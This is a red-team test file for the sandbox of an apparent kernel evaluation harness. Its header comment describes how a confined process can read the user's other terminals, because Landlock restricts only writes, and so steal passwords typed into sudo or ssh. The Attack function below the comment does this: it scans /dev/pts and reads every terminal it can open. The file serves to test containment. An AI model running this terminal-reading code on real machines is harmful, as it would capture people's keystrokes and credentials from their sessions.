// ATTACK (round 17, helper-redteam17; containment: the user's terminals,
// read). Round 16's fix took the controlling terminal from candidate ranks
// (TIOCNOTTY) and refuses TIOCSTI and device ioctls, but reading is free:
// Landlock (containment.cc ConfineWrites) handles only write rights, so a
// rank opens any terminal its uid may by PATH, O_RDONLY | O_NOCTTY
// (/dev/pts/N is the owner's, mode 0620: every terminal of the user in a
// plain user's bare launch: this one, other ssh sessions, tmux panes).
// It is not the rank's controlling terminal, so no job-control check
// (SIGTTIN) applies: read() takes bytes out of the terminal's input queue,
// in competition with the shell or program that waits on it. A candidate
// thus steals what the user types (a password typed to sudo or ssh in
// another pane while the evaluation runs) and eats it before the program
// it was meant for sees it.
// The test opens a pseudo-terminal owned by the ranks' uid (65534 in a
// root launch, as the user's own terminals are in a plain user's launch),
// in canonical mode, and types "pkf-r17-typed-password" into it (typed
// ahead: no one reads it yet). Rank 0 scans /dev/pts and reads every
// terminal it can open.
// Gated: outputs are written only if rank 0 read the typed line.
// EXPECT: WRONG_OUTPUT (no terminal openable), and the line is still in the
// terminal's queue for its rightful reader after the launch.
#include <dirent.h>

#include "kernels/testdata/redteam/redteam.h"

static bool Attack(pkf_context* ctx) {
  if (ctx->rank != 0) return true;
  bool stole = false;
  DIR* d = opendir("/dev/pts");
  if (d == NULL) {
    rt_log("opendir /dev/pts: %s", strerror(errno));
    return false;
  }
  while (dirent* e = readdir(d)) {
    if (e->d_name[0] < '0' || e->d_name[0] > '9') continue;
    const std::string path = std::string("/dev/pts/") + e->d_name;
    const int fd = open(path.c_str(), O_RDONLY | O_NOCTTY | O_NONBLOCK | O_CLOEXEC);
    if (fd < 0) {
      rt_log("open %s: %s", path.c_str(), strerror(errno));
      continue;
    }
    char buf[256] = {0};
    const ssize_t n = read(fd, buf, sizeof buf - 1);
    rt_log("uid %d read %s: %zd %s", (int)getuid(), path.c_str(), n,
           n > 0 ? buf : strerror(errno));
    if (n > 0 && strstr(buf, "pkf-r17-typed-password") != NULL) stole = true;
    close(fd);
  }
  closedir(d);
  return stole;
}

RT_GATED_CANDIDATE(Attack)
